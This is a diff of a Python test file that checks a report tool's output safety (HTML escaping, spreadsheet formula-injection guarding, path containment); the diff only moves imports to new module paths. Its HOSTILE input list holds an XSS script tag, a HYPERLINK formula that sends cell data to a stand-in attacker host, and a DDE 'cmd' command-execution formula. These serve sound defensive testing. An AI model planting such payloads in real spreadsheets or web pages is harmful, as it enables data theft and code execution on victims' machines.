@@ -1,6 +1,6 @@
 """Output safety: names are text in every output, and nothing is written outside the chosen folder.
 
-- ``quota.safety``: ``escape_html``, ``safe_cell`` (OWASP formula-injection rule), ``inside`` and
+- ``quota.report.safety``: ``escape_html``, ``safe_cell`` (OWASP formula-injection rule), ``inside`` and
   ``safe_component``; the report's own copies of the two text rules (``quota.report.escape``) agree.
 - ``write_run`` refuses a file name that would leave the run folder, before writing anything.
 - Acceptance 5: projects named ``<script>alert(1)</script>`` and ``=HYPERLINK(...)`` (and ids such as
@@ -17,10 +17,10 @@ import pytest
 from builder import county, project, write_scenario
 from click.testing import CliRunner
 
-from quota.cli import cli
+from quota.commands.cli import cli
 from quota.errors import QuotaError
-from quota.safety import FORMULA_START, escape_html, inside, safe_cell, safe_component
-from quota.write import write_run
+from quota.report.safety import FORMULA_START, escape_html, inside, safe_cell, safe_component
+from quota.report.write import write_run
 
 HOSTILE = ["<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", "=cmd|' /C calc'!A0", "'quoted", "a\"b'c&d<e>f", "普通名称", "", "1-2", " =1+1"]
@@ -153,7 +153,7 @@ def test_nothing_is_written_outside_the_run_folder(hostile_run):
 
 @pytest.mark.parametrize("text", HOSTILE + ["''=1", "'+x", "'", "''", "-", "=", "'abc"])
 def test_read_cell_inverts_safe_cell(text):
-    from quota.safety import read_cell
+    from quota.report.safety import read_cell
 
     assert read_cell(safe_cell(text)) == text
 
@@ -161,7 +161,7 @@ def test_read_cell_inverts_safe_cell(text):
 def test_safe_frame_leaves_numbers_alone():
     import pandas as pd
 
-    from quota.safety import safe_frame, unsafe_frame
+    from quota.report.safety import safe_frame, unsafe_frame
 
     frame = pd.DataFrame({"name": ["=1", "-2", "ok", ""], "area": [-1.5, 2.0, -3.0, 0.0], "n": [-1, 2, 3, 4],
                           "flag": [True, False, True, False], "=col": ["a", "b", "c", "d"]})
@@ -180,7 +180,7 @@ def test_every_csv_writer_applies_the_rule(tmp_path):
     gives the true values back; negative numbers stay numbers."""
     import pandas as pd
 
-    from quota.safety import csv_text, read_csv
+    from quota.report.safety import csv_text, read_csv
 
     frame = pd.DataFrame({"name": HOSTILE, "value": [-float(i) for i in range(len(HOSTILE))]})
     out = write_run(tmp_path / "out", {"t.csv": frame}, [], {})
